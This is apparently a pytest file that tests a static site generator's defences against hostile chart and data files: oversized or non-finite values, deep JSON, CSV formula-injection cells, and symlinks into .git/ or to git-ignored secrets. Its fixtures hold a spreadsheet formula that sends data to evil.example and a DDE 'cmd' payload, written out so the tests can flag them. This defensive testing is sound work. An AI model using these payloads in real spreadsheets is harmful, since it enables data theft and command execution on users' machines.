"""Hostile charts and data files (issue 20, "Hardening, round 2"): each case runs
`invoke build` as the author would, on a small site of its own, under a timeout
and a memory limit, and checks the exit code, that the message names the file,
line and field, that no traceback shows, and that a failed build leaves output/
as it was; a case allowed to build ships nothing it should not.

Classes covered (the issue's section numbers):
- 1. Input that eats the machine: chart values at the edge of float range, NaN and
  infinity by CSV line, a 200,000-row CSV bounded (table, SVG, page weight).
- 3. Every problem in one run: a link out of the repository under content/data/
  with the same post's chart and Data: problems, and Data: with chart problems.
- 4. Published data files: CSV cells a spreadsheet runs as formulas are warned
  by file, line and column; the CSV ships unchanged.
- 5. Links inside the repository: never into .git/, never to what git ignores.
- 8. Input that must fail by name: Data: JSON and JSONL nested too deep.
"""

import csv
import io
import json
import math
import random
import re
import shutil
import subprocess

import pytest
from bs4 import BeautifulSoup

from plugins.charts.charts import MAX_BARS, draw, read_rows, thinned
from plugins.content_guard.content_files import git_ignored, scan_content
from plugins.data_files.data_files import parse_problem
from sitetools.content.spreadsheets import formula_cells, formula_like
from tests.conftest import ROOT, read_html, run_invoke_bounded, snapshot

TOKEN = "sekret-token-7f3a"  # what must never reach the output


def post(slug, header="", body="Some text.\n"):
    return (
        f"Title: {slug.title()}\nDate: 2026-01-02 09:00\nSlug: {slug}\nTags: python\n"
        f"Summary: A post.\n{header}\n{body}"
    )


def chart(name, x="n", y="v", kind="line"):
    return f"\n```chart\ndata: {name}\ntype: {kind}\nx: {x}\ny: {y}\n```\n"


def lines_of(text, start):
    """The line numbers (from 1) of `text`'s lines that start with `start`."""
    return [n for n, line in enumerate(text.splitlines(), start=1) if line.startswith(start)]


def write(content, files):
    """Write {relative path: text} under `content`; returns `content`."""
    for relative, text in files.items():
        path = content / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8", newline="")
    return content


def build(content, output):
    return run_invoke_bounded("build", "--content", str(content), "--output", str(output))


def failed(tmp_path_factory, last_good, name, make):
    """Build the content `make(root)` writes into a copy of the last good output:
    (the finished run, its report, the output, its snapshot before the build)."""
    root = tmp_path_factory.mktemp(name)
    content = make(root)
    output = root / "output"
    shutil.copytree(last_good, output)
    before = snapshot(output)
    run = build(content, output)
    return run, run.stdout + run.stderr, output, before


def assert_failed_cleanly(case, expected):
    """Exit 1, no traceback, output/ as it was, and for each tuple of `expected` a
    report line holding all its parts (file:line: field: and the words), with a fix."""
    run, report, output, before = case
    assert run.returncode == 1, report
    assert "Traceback" not in report, report
    assert snapshot(output) == before, "the failed build changed the last good site"
    for parts in expected:
        found = [line for line in report.splitlines() if all(part in line for part in parts)]
        assert found, f"no line with {parts} in:\n{report}"
        assert "; " in found[0].split(parts[-1], 1)[1], f"no fix in {found[0]!r}"


@pytest.fixture(scope="module")
def last_good(tmp_path_factory):
    root = tmp_path_factory.mktemp("last-good")
    content = write(root / "content", {"posts/good.md": post("good")})
    done = build(content, root / "output")
    assert done.returncode == 0, done.stderr
    return root / "output"


# ---- 1 and 8: values and files that used to stop with a traceback ----------------


DEEP_POST = post("deep", "Data: deep.json, deep.jsonl\n", chart("nan.csv") + chart("big.csv"))


@pytest.fixture(scope="module")
def data_and_charts(tmp_path_factory, last_good):
    """Data: deep JSON and JSONL, and a chart over NaN and infinity: one run."""

    def make(root):
        nested = "[" * 200_000 + "]" * 200_000
        return write(
            root / "content",
            {
                "posts/deep.md": DEEP_POST,
                "data/deep/deep.json": nested,
                "data/deep/deep.jsonl": '{"a": 1}\n' + nested + "\n",
                "data/deep/nan.csv": "n,v\na,nan\nb,1\nc,inf\nd,-Infinity\n",
                "data/deep/big.csv": "n,v\na,1e309\n",
            },
        )

    return failed(tmp_path_factory, last_good, "deep", make)


def test_deep_json_and_non_finite_values_fail_by_name_in_one_run(data_and_charts):
    data = f"posts/deep.md:{lines_of(DEEP_POST, 'Data:')[0]}: Data: "
    nan, big = (f"posts/deep.md:{n}: chart: " for n in lines_of(DEEP_POST, "```chart"))
    assert_failed_cleanly(
        data_and_charts,
        [
            (data, "deep.json is nested too deep"),
            (data, "deep.jsonl line 2 is nested too deep"),
            (nan, 'nan.csv line 2: v "nan" is not a finite number'),
            (nan, 'nan.csv line 4: v "inf" is not a finite number'),
            (nan, 'nan.csv line 5: v "-Infinity" is not a finite number'),
            (big, 'big.csv line 2: v "1e309" is not a finite number'),
        ],
    )
    assert "RecursionError" not in data_and_charts[1], data_and_charts[1]
    assert "nan.csv line 3" not in data_and_charts[1], "a finite row was refused"


@pytest.mark.parametrize("suffix", ["json", "jsonl"])
def test_parse_problem_names_nesting_too_deep(suffix):
    problem = parse_problem(suffix, b"{}\n" * (suffix == "jsonl") + b"[" * 5000 + b"]" * 5000)
    assert problem and "nested too deep" in problem, problem


EDGE_ROWS = [("top", 1e308), ("bottom", -1e308), ("max", 1.7976931348623157e308)]


@pytest.mark.parametrize("kind", ["line", "bar", "scatter"])
@pytest.mark.parametrize(
    "values",
    [[1e308, -1e308], [1.7976931348623157e308, -1.7976931348623157e308], [5e-324, 0.0]],
    ids=["1e308", "max-float", "smallest-subnormal"],
)
def test_any_finite_value_draws_inside_the_chart(kind, values):
    """Every coordinate of the drawing is a finite number inside its viewBox."""
    rows = [[str(v) if kind == "scatter" else f"r{i}", v] for i, v in enumerate(values)]
    spec = {"data": "a.csv", "type": kind, "x": "x", "y": "y"}
    svg = draw(json.dumps([spec, rows, "c", "The data is in the table below."]))
    page = BeautifulSoup(svg, "html.parser")
    width, height = (float(n) for n in page.svg["viewbox"].split()[2:])
    numbers = [
        float(n)
        for element in page.select("[x], [y], [width], [height], path")
        for name in ("x", "y", "width", "height", "d")
        for n in re.findall(r"-?\d+(?:\.\d+)?|[a-z]*inf|nan", element.get(name, ""))
    ]
    assert numbers and all(math.isfinite(n) for n in numbers), svg
    assert all(-1 <= n <= max(width, height) + 1 for n in numbers), svg


def test_a_line_keeps_what_each_pixel_column_shows():
    """thinned: a subset, in order, with the first, last, lowest and highest point
    of each run of points in one pixel column."""
    rng = random.Random(20)
    points = [(64 + i * 0.01, rng.uniform(24, 312)) for i in range(20_000)]
    kept = thinned(points)
    assert len(kept) <= 4 * (math.floor(points[-1][0]) - 64 + 1), len(kept)
    assert kept == [p for p in points if p in set(kept)], "not a subset in order"
    for column in {math.floor(x) for x, _ in points}:
        run = [p for p in points if math.floor(p[0]) == column]
        mine = [p for p in kept if math.floor(p[0]) == column]
        ys = [y for _, y in run]
        assert {run[0], run[-1]} <= set(mine), column
        assert min(ys) in [y for _, y in mine] and max(ys) in [y for _, y in mine], column


@pytest.mark.parametrize(
    ("text", "kind", "words"),
    [
        ("n,v\n" + "a,1\n" * (MAX_BARS + 1), "bar", f"{MAX_BARS + 1} rows, too many bars"),
        ("n,v\n" + "a" * 10_000_000 + ",1\n", "line", "a.csv line 2 does not parse as CSV"),
        ("", "line", "a.csv is empty"),
        ("\ufeffn,v\r\na,nan\r\n", "line", 'a.csv line 2: v "nan" is not a finite number'),
    ],
    ids=["too-many-bars", "10-MB-cell", "empty", "BOM-CRLF-NaN"],
)
def test_a_csv_a_chart_cannot_draw_is_named_with_a_fix(text, kind, words):
    spec = {"data": "a.csv", "type": kind, "x": "n", "y": "v"}
    _rows, problems = read_rows(text.removeprefix("\ufeff"), spec)
    assert len(problems) == 1 and words in problems[0] and "; " in problems[0], problems


def test_bars_up_to_the_limit_draw():
    spec = {"data": "a.csv", "type": "bar", "x": "n", "y": "v"}
    rows, problems = read_rows("n,v\n" + "a,1\n" * MAX_BARS, spec)
    assert problems == [] and len(rows) == MAX_BARS, problems


# ---- 1: a CSV of 200,000 rows ---------------------------------------------------

BIG_ROWS = 200_000
BIG_POST = post("big", body="The rows.\n" + chart("rows.csv", "t", "v"))


@pytest.fixture(scope="module")
def big(tmp_path_factory):
    """A line chart over 200,000 rows, and a post of 40 charts with 1,000-row tables,
    built twice (each with its own cache): (run, output, second output, the CSV)."""
    root = tmp_path_factory.mktemp("big")
    rng = random.Random(7)
    rows = "".join(f"{i},{rng.gauss(100, 30):.3f}\n" for i in range(BIG_ROWS))
    table = "".join(f"{i},{i % 97}.5\n" for i in range(1000))
    content = write(
        root / "content",
        {
            "posts/big.md": BIG_POST,
            "data/big/rows.csv": "t,v\n" + rows,
            "posts/tables.md": post("tables", body=chart("table.csv") * 40),
            "data/tables/table.csv": "n,v\n" + table,
        },
    )
    runs = [build(content, root / name) for name in ("output", "again")]
    for run in runs:
        assert run.returncode == 0, run.stdout + run.stderr
    return runs[0], root / "output", root / "again", content / "data" / "big" / "rows.csv"


def test_a_200000_row_chart_builds_a_light_page(big):
    run, output, _, source = big
    page = output / "posts" / "big" / "index.html"
    assert "Traceback" not in run.stdout + run.stderr
    assert page.stat().st_size < 100_000, f"{page.stat().st_size} bytes of HTML"
    figure = read_html(page).select_one("div.chart")
    assert figure.select("table") == [], "the 200,000-row table is on the page"
    note = figure.select_one("p.chart__download")
    assert f"{BIG_ROWS:,} rows" in note.get_text(), note
    download = output / "posts" / "big" / note.a["href"]
    assert download.read_bytes() == source.read_bytes(), "the download is not the CSV"


def test_the_big_line_chart_is_small_and_keeps_the_extremes(big):
    _, output, _, source = big
    image = read_html(output / "posts" / "big" / "index.html").select_one("img.chart__svg")
    svg = output / "posts" / "big" / image["src"]
    assert svg.stat().st_size < 100_000, f"the SVG is {svg.stat().st_size} bytes"
    with source.open(encoding="utf-8") as handle:
        values = [float(row["v"]) for row in csv.DictReader(handle)]
    desc = BeautifulSoup(svg.read_text(encoding="utf-8"), "html.parser").find("desc").get_text()
    assert f"{len(values)} rows, from {min(values):.15g} to {max(values):.15g}" in desc, desc
    assert "CSV linked below" in image["alt"], image["alt"]


def test_the_author_is_told_of_the_missing_table_and_the_heavy_page(big):
    run, output, _, _ = big
    warnings = run.stderr
    where = f"posts/big.md:{lines_of(BIG_POST, '```chart')[0]}: chart: "
    assert f"{where}rows.csv has 200,000 rows" in warnings, warnings
    heavy = output / "posts" / "tables" / "index.html"
    assert heavy.stat().st_size > 1_000_000, "the 40 tables should weigh over 1 MB"
    weight = [line for line in warnings.splitlines() if "page weight" in line]
    assert len(weight) == 1, weight
    assert "posts/tables.md: page weight: posts/tables/index.html is " in weight[0], weight
    assert "bytes of HTML, over the budget of 1,000,000 (CHARTS page_budget); " in weight[0]
    assert "posts/big.md: page weight" not in warnings, "the light page was warned about"


def test_big_charts_are_byte_for_byte_the_same_on_every_build(big):
    _, output, again, _ = big
    for path in sorted((output / "posts" / "big").iterdir()):
        twin = again / path.relative_to(output)
        assert twin.read_bytes() == path.read_bytes(), f"{path.name} differs between builds"


# ---- 1 and 4: edge values draw; formula cells are warned, the CSV ships as written --

INJECTION = (
    "name,v\n"
    '=HYPERLINK("http://evil.example/?d="&A3),1\n'
    "-3.5,+1\n"
    "\"@SUM(1+1)*cmd|' /C calc'!A0\",2\n"
    '"\t=1+1",3\n'
)


@pytest.fixture(scope="module")
def edges(tmp_path_factory):
    root = tmp_path_factory.mktemp("edges")
    edge = "n,v\n" + "".join(f"{name},{value!r}\n" for name, value in EDGE_ROWS)
    content = write(
        root / "content",
        {
            "posts/edge.md": post(
                "edge",
                "Data: inj.csv\n",
                chart("edge.csv") + chart("edge.csv", kind="bar") + chart("inj.csv", "name"),
            ),
            "data/edge/edge.csv": edge,
            "data/edge/inj.csv": INJECTION,
            "posts/other.md": post("other", body=chart("cmd.csv", kind="bar")),
            "data/other/cmd.csv": "n,v\n@cmd,1\n-,2\n",
        },
    )
    run = build(content, root / "output")
    return run, root / "output", content


def test_values_at_the_edge_of_float_range_draw(edges):
    run, output, _ = edges
    assert run.returncode == 0, run.stdout + run.stderr
    assert "OverflowError" not in run.stderr and "Traceback" not in run.stderr
    line, bars = read_html(output / "posts" / "edge" / "index.html").select("div.chart svg")[:2]
    labels = [t.get_text() for t in line.select("text.chart__tick--y")]
    assert "1e308" in labels and "-1e308" in labels, labels
    up, down, _top = bars.select("rect.chart__bar")
    assert float(up["height"]) == pytest.approx(float(down["height"]), rel=0.01), (up, down)


def test_formula_cells_are_warned_by_file_line_and_column(edges):
    run, _, _ = edges
    csv_path = "data/edge/inj.csv"
    for line in (2, 4, 5):
        found = [w for w in run.stderr.splitlines() if f'{csv_path}:{line}: column "name": ' in w]
        assert len(found) == 1, f"line {line}: {found} in:\n{run.stderr}"
        assert "formula" in found[0] and "; " in found[0], found[0]
    assert f"{csv_path}:3:" not in run.stderr, "-3.5 and +1 are numbers, not formulas"
    assert 'data/other/cmd.csv:2: column "n": ' in run.stderr, run.stderr
    assert "data/other/cmd.csv:3" not in run.stderr, "a lone '-' is not a formula"


def test_a_csv_with_formula_cells_is_published_as_written(edges):
    _, output, content = edges
    for source, published in (
        ("data/edge/inj.csv", "posts/edge/inj.csv"),
        ("data/other/cmd.csv", "posts/other/cmd.csv"),
    ):
        assert (output / published).read_bytes() == (content / source).read_bytes(), published


@pytest.mark.parametrize(
    ("cell", "formula"),
    [
        ("=1+1", True),
        ("@SUM(A1)", True),
        ("+cmd|' /C calc'!A0", True),
        ("-2+3", True),
        ("\t=1+1", True),
        ("\r@x", True),
        ("-3.5", False),
        ("+1", False),
        ("-1e-3", False),
        ("1,234.5", False),
        ("-", False),
        ("plain", False),
        ("", False),
    ],
)
def test_formula_like(cell, formula):
    assert formula_like(cell) is formula


def test_formula_cells_name_the_line_a_row_starts_on():
    text = 'a,b\n"two\nlines",1\n=x,2\n'
    assert formula_cells(text) == [(4, 'column "a"', "=x")]
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[2][0] == "=x", "the fixture's row is not where the test says"


# ---- 3: a link out of the repository, with the post's other problems ------------


ONE_RUN_POST = post(
    "p", "Data: leak.csv, missing.csv\n", chart("leak.csv") + chart("words.csv") + chart("gone.csv")
)


@pytest.fixture(scope="module")
def one_run(tmp_path_factory, last_good):
    def make(root):
        outside = root / "outside.csv"
        outside.write_text(f"n,v\n{TOKEN},1\n", encoding="utf-8")
        content = write(
            root / "content",
            {
                "posts/p.md": ONE_RUN_POST,
                "data/p/words.csv": "n,v\na,1\nb,fast\n",
            },
        )
        (content / "data" / "p" / "leak.csv").symlink_to(outside)
        return content

    return failed(tmp_path_factory, last_good, "one-run", make)


def test_a_link_out_of_the_repository_and_the_charts_are_reported_in_one_run(one_run):
    data = f"posts/p.md:{lines_of(ONE_RUN_POST, 'Data:')[0]}: Data: "
    leak, words, gone = (f"posts/p.md:{n}: chart: " for n in lines_of(ONE_RUN_POST, "```chart"))
    assert_failed_cleanly(
        one_run,
        [
            ("data/p/leak.csv: file: ", "a symbolic link to a file outside the repository"),
            (data, "missing.csv is not in"),
            (words, 'words.csv line 3: v "fast" is not a number'),
            (gone, "data file gone.csv is not in"),
        ],
    )
    assert f"{data}leak.csv" not in one_run[1], "the refused link was read as data"
    assert leak not in one_run[1], "the refused link was read for a chart"
    assert TOKEN not in one_run[1], "the file outside was read into the report"


# ---- 5: links into .git/ and to what git ignores ----------------------------------


def git(folder, *args):
    subprocess.run(["git", "-C", str(folder), *args], check=True, capture_output=True)


@pytest.fixture(scope="module")
def repo_links(tmp_path_factory, last_good):
    """A content folder that is a git repository, with links from data/p/ to its
    .git/config, to an ignored .env.local and folder, and to this project's .git."""

    def make(root):
        content = root / "content"
        content.mkdir()
        git(content, "init", "-q")
        git(content, "config", "credential.helper", f"store --file={TOKEN}")
        write(
            content,
            {
                ".gitignore": ".env.local\nsecrets/\n",
                ".env.local": f"TOKEN={TOKEN}\n",
                "secrets/keys.csv": f"k,v\n{TOKEN},1\n",
                "posts/p.md": post("p", "Data: config.csv, env.csv\n", chart("env.csv")),
            },
        )
        links = {"config.csv": "../../.git/config", "env.csv": "../../.env.local"}
        links |= {"secrets": "../../secrets", "project.csv": str(ROOT / ".git")}
        for name, target in links.items():
            (content / "data" / "p" / name).parent.mkdir(parents=True, exist_ok=True)
            (content / "data" / "p" / name).symlink_to(target)
        return content

    return failed(tmp_path_factory, last_good, "repo-links", make)


def test_links_into_git_or_to_ignored_files_are_refused_by_name(repo_links):
    assert_failed_cleanly(
        repo_links,
        [
            ("data/p/config.csv: file: ", "reaches into .git/"),
            ("data/p/project.csv: ", "reaches into .git/"),  # a file in a worktree
            ("data/p/env.csv: file: ", "a symbolic link to a file git ignores (.env.local)"),
            ("data/p/secrets: folder: ", "a symbolic link to a folder git ignores (secrets)"),
        ],
    )
    report = repo_links[1]
    assert "keys.csv" not in report, "the ignored folder is named once, not file by file"
    assert TOKEN not in report, "the secret was read into the report"


def test_nothing_from_git_or_an_ignored_file_ships(repo_links):
    _, _, output, _ = repo_links
    for path in output.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert TOKEN.encode() not in data and b"[core]" not in data, path


def test_a_site_outside_git_still_refuses_dot_git(tmp_path):
    top = tmp_path / "content"
    (top / ".git").mkdir(parents=True)
    (top / ".git" / "config").write_text("[core]\n", encoding="utf-8")
    (top / "data").mkdir()
    (top / "data" / "config.csv").symlink_to("../.git/config")
    (top / "data" / "git").symlink_to("../.git")
    (top / "data" / "plain.csv").write_text("a\n1\n", encoding="utf-8")
    scan = scan_content(top, [top], [".*"])
    refused = {path.rsplit("/", 1)[-1]: why for path, _, why in scan.problems}
    assert set(refused) == {"config.csv", "git"}, scan.problems
    assert all(".git/" in why for why in refused.values()), refused
    assert str(top / "data" / "plain.csv") in scan.files
    assert git_ignored([str(top / "data" / "plain.csv")], [top]) == set(), "no git, no ignores"


def test_git_ignored_asks_git(tmp_path):
    git(tmp_path, "init", "-q")
    (tmp_path / ".gitignore").write_text("*.secret\nbuild/\n", encoding="utf-8")
    names = ["a.secret", "build/x.csv", "kept.csv"]
    for name in names:
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text("x", encoding="utf-8")
    found = git_ignored([str(tmp_path / name) for name in names], [tmp_path])
    assert found == {str(tmp_path / "a.secret"), str(tmp_path / "build" / "x.csv")}, found
